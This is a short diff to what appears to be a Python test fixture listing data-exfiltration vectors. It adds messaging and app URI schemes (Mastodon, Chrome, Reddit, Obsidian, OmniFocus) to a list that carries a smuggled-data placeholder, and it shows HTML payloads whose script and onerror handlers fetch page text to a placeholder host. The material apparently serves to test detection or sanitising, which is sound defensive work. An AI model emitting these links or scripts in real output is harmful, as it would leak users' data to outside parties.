@@ -32,7 +32,7 @@ LINKS = [
 """Of reStructuredText and Org, whose addresses do not end at a blank."""
 RINGS = [
     "sms:+15551234567?body={s}", "sms:+15551234567&body={s}", "smsto:5551234567;body={s}", "see whatsapp://send?text={s} now", "whatsapp:send?text={s}", "tg://msg?text={s}", "tg:msg?text={s}", "signal://send?text={s}", "[[sms:+15551234567?body={s}][x]]", "`x <tg://msg?text={s}>`_",
-    "kakaolink://send?text={s}", "line://msg/text/{s}", "viber://forward?text={s}", "fb-messenger://share?link={s}", "intent://send/{s}#Intent;end", "<a href=whatsapp://send?text={s}>x</a>", "twitter://post?message={s}", "tel:+15551234567;x={s}", "slack://channel?id={s}", "ms-outlook://compose?body={s}",
+    "kakaolink://send?text={s}", "line://msg/text/{s}", "viber://forward?text={s}", "fb-messenger://share?link={s}", "intent://send/{s}#Intent;end", "<a href=whatsapp://send?text={s}>x</a>", "twitter://post?message={s}", "tel:+15551234567;x={s}", "slack://channel?id={s}", "ms-outlook://compose?body={s}", "[x](web+mastodon://share?text={s})", "[x](googlechrome://navigate?url=a.example/{s})", "[x](reddit://new?title={s})", "obsidian://new?content={s}", "[x](omnifocus://x-callback-url/add?name={s})",
 ]  # fmt: skip
 PAGES = [
     "<p>{s}</p><script>fetch('https://{h}/?'+document.body.innerText)</script>", "<p>{s}</p><img src=x onerror=\"fetch('https://{h}/?'+document.body.innerText)\">", "<div data-a='{s}' onclick=\"fetch('https://{h}/?'+dataset.a)\">x</div>",
